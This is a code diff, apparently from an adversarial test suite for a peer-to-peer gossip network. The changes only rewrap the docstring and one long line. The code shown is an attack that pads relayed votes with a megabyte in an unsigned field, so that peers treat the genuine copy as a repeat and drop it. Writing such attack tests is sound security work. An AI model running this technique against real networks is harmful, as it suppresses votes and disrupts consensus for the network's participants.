@@ -1,5 +1,7 @@
-"""Others' votes, first passed on with a megabyte in a field that no signature covers (K-A): a peer marked the vote as seen,
-could not pass on so large a message, and took the true copy for a repeat."""
+"""Others' votes, first passed on with a megabyte in a field that no signature covers (K-A).
+
+A peer marked the vote as seen, could not pass on so large a message, and took the true copy for a repeat.
+"""
 
 from __future__ import annotations
 
@@ -29,7 +31,9 @@ async def attack(target: Target) -> None:
             for peer in peers:
                 if streams.get(peer) is None:
                     streams[peer] = await quietly(host.new_stream, peer, [MESHSUB])
-                if streams[peer] is None or await quietly(streams[peer].write, rpc(publish=[_padded(fresh[0], number)]), timeout_s=2.0) is None:
+                if streams[peer] is None or await quietly(
+                    streams[peer].write, rpc(publish=[_padded(fresh[0], number)]), timeout_s=2.0
+                ) is None:
                     streams.pop(peer, None)
 
 
